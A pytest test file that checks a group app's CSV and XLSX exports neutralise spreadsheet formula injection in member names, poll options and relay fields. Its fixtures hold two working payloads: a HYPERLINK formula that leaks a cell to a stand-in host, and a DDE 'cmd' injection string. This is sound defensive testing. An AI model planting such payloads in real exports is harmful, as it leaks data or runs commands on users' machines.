"""Exports open in a spreadsheet without running anything (issue 10 §5): every CSV
guards cells that would start a formula, every XLSX cell is text or a number."""
import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from grouptools.core.export import csv_line, csv_text, guarded_text, xlsx_bytes
from tests.relay.conftest import relay_with  # noqa: F401 (fixture)

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
EVIL_ANSWER = "+cmd|' /C calc'!A0"


def read_csv(response):
    """The rows as a spreadsheet reads them: the BOM tells it UTF-8."""
    data = response.get_data()
    assert data.startswith("\ufeff".encode("utf-8"))
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def cells(rows):
    return [cell for row in rows for cell in row]


def assert_no_formula_starts(rows):
    for cell in cells(rows):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def read_xlsx(data):
    """Every cell of the first sheet, after checking no cell of the file is a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = load_workbook(io.BytesIO(data)).active
    found = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    for cell in found:
        assert cell.data_type in ("s", "n", "d"), (cell.coordinate, cell.data_type, cell.value)
    return found


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_starting_like_a_formula_gets_a_leading_quote(start):
    assert guarded_text(f"{start}1+1") == f"'{start}1+1"
    assert guarded_text("张三 = 1") == "张三 = 1"
    row = next(csv.reader(io.StringIO(csv_line([f"{start}SUM(A1)", -5, 2.5, None]))))
    assert row == [f"'{start}SUM(A1)", "-5", "2.5", ""]


def test_csv_text_starts_with_a_bom_and_guards_the_header_too():
    text = csv_text([EVIL_NAME, "Name"], [["=1+1", 3]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows == [["'" + EVIL_NAME, "Name"], ["'=1+1", "3"]]


def test_xlsx_writes_every_text_as_text_and_numbers_as_numbers():
    data = xlsx_bytes([EVIL_NAME, "=2*3", "Count"], [["@cmd", "-1", 7]], "=sheet[1]")
    found = {cell.coordinate: cell for cell in read_xlsx(data)}
    assert found["A1"].value == EVIL_NAME and found["A1"].data_type == "s"
    assert found["B1"].value == "=2*3"
    assert found["A2"].value == "@cmd" and found["B2"].value == "-1"
    assert found["C2"].value == 7 and found["C2"].data_type == "n"


def test_members_csv_keeps_names_and_answers_as_text(group_with, user):
    gid, owner, _ = group_with(join_question="你是谁介绍来的？")
    evil = user(EVIL_NAME)
    assert evil.post(f"/api/v1/groups/{gid}/join", json={"answer": EVIL_ANSWER}).status_code == 201
    other = user("@李四")
    assert other.post(f"/api/v1/groups/{gid}/join", json={"answer": "-老同学"}).status_code == 201
    rows = read_csv(owner.get(f"/api/v1/groups/{gid}/export.csv"))
    assert_no_formula_starts(rows)
    found = cells(rows)
    assert "'" + EVIL_NAME in found and "'" + EVIL_ANSWER in found
    assert "'@李四" in found and "'-老同学" in found


def test_poll_csv_keeps_option_texts_and_names_as_text(group_with, user):
    gid, owner, people = group_with(members=[EVIL_NAME])
    pid = owner.post(f"/api/v1/groups/{gid}/polls", json={
        "title": "=1+1", "options": [{"text": "+去爬山"}, {"text": "@看电影"}]}).get_json()["id"]
    voter = people[EVIL_NAME][0]
    option = voter.get(f"/api/v1/polls/{pid}").get_json()["options"][0]["id"]
    assert voter.post(f"/api/v1/polls/{pid}/votes", json={"option_ids": [option]}).status_code == 201
    rows = read_csv(owner.get(f"/api/v1/polls/{pid}/export.csv"))
    assert_no_formula_starts(rows)
    found = cells(rows)
    assert {"'=1+1", "'+去爬山", "'@看电影", "'" + EVIL_NAME} <= set(found)


def test_relay_exports_keep_labels_names_and_values_as_text(relay_with):  # noqa: F811
    rid, owner, people, _ = relay_with(members=[EVIL_NAME], fields=[
        {"key": "note", "label": EVIL_NAME, "type": "text"},
        {"key": "count", "label": "-人数", "type": "number"}])
    entrant = people[EVIL_NAME]
    signed = entrant.post(f"/api/v1/relays/{rid}/entries",
                          json={"values": {"note": "=2+3", "count": "2"}})
    assert signed.status_code == 201, signed.get_json()
    rows = read_csv(owner.get(f"/api/v1/relays/{rid}/export.csv"))
    assert_no_formula_starts(rows)
    assert "'" + EVIL_NAME in rows[0] and "'-人数" in rows[0]
    assert "'=2+3" in rows[1] and "2" in rows[1]

    found = read_xlsx(owner.get(f"/api/v1/relays/{rid}/export.xlsx").get_data())
    evil = [cell for cell in found if cell.value == EVIL_NAME]
    assert {cell.row for cell in evil} == {1, 2}  # the field's label and the member's name
    assert all(cell.data_type == "s" for cell in evil)
    by_value = {cell.value: cell for cell in found}
    assert by_value["=2+3"].data_type == "s"
    assert by_value[2].data_type == "n"
